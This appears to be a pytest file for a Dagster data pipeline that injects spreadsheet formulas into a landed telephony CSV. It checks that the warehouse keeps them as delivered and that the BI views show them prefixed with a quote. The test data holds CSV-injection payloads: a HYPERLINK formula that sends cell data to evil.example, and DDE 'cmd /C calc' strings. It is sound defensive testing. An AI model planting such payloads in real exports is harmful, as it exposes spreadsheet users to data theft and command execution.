"""Spreadsheet formulas in a landed file, end to end: staged and computed as delivered, shown
neutralised (a leading single quote) in the BI views of the DuckDB BI file and of the
PostgreSQL BI schema."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from outcome_pipeline.defs.automation.jobs import RANGE_END, RANGE_START
from outcome_pipeline.serving import bi_schema_name
from outcome_pipeline_tests.automation.pipeline import Pipeline, generate_days

pytestmark = pytest.mark.slow
# OWASP's CSV-injection list: a cell starting with one of these is read as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# (queue, team, agent_id) of the first answered calls of the day.
HOSTILE = [
    ("billing", '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "AG-EXP-0003"),
    ("sales", "express", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-Support", "-Support", "+44-cmd|' /C calc'!A0"),
    ("=1+1", "care_plus", "-2+3"),
]
TEXT = {
    "bi_daily_outcomes": ("channel", "queue", "team", "segment"),
    "bi_agent_output_vs_outcome": ("team", "agent_id"),
}


def land_formulas(landing: Path, day: date) -> None:
    path = landing / "interactions" / day.isoformat() / "interactions_telephony.csv"
    with path.open(newline="") as f:
        reader = csv.DictReader(f)
        fields, rows = reader.fieldnames, list(reader)
    answered = [r for r in rows if r["agent_id"]]
    for row, (queue, team, agent) in zip(answered, HOSTILE, strict=False):
        row.update(queue=queue, team=team, agent_id=agent)
    with path.open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)


def view_rows(con, schema: str) -> dict[str, list[tuple]]:
    return {
        view: con.execute(f'SELECT {", ".join(cols)} FROM "{schema}".{view}').fetchall()
        for view, cols in TEXT.items()
    }


def test_formulas_reach_the_bi_views_neutralised(tmp_path: Path, warehouse_url) -> None:
    url, schema = warehouse_url
    landing = tmp_path / "landing"
    generate_days(landing, date(2024, 1, 1), 1)
    land_formulas(landing, date(2024, 1, 1))
    p = Pipeline(
        landing, url, schema, tmp_path / "warehouse_bi.duckdb", dg.DagsterInstance.ephemeral()
    )
    result = p.run("nightly_outcomes", tags={RANGE_START: "2024-01-01", RANGE_END: "2024-01-01"})
    assert result.success

    wh = p.warehouse()
    try:
        # The warehouse keeps the values as delivered (nothing quarantined for them).
        agents = set(
            wh.query(f"SELECT agent_id FROM {wh.qualified('daily_agent_output_vs_outcome')}")
            .column(0)
            .to_pylist()
        )
        assert {a for _, _, a in HOSTILE} <= agents
        if wh.dialect == "postgresql":
            raw = wh.engine.raw_connection()
            try:
                cur = raw.cursor()
                shown = {
                    view: cur.execute(
                        f'SELECT {", ".join(cols)} FROM "{bi_schema_name(schema)}".{view}'
                    ).fetchall()
                    for view, cols in TEXT.items()
                }
            finally:
                raw.close()
        else:
            con = duckdb.connect(str(p.bi_copy), read_only=True)
            try:
                shown = view_rows(con, schema)
            finally:
                con.close()
    finally:
        wh.dispose()

    values = {v for rows in shown.values() for row in rows for v in row if v is not None}
    assert not [v for v in values if v.startswith(FORMULA_STARTS)]  # nothing a sheet would run
    hostile = {v for row in HOSTILE for v in row if v.startswith(FORMULA_STARTS)}
    assert {f"'{v}" for v in hostile} <= values  # every one reached BI, as text
    assert {"billing", "sales", "express", "AG-EXP-0003"} <= values  # the rest as it was
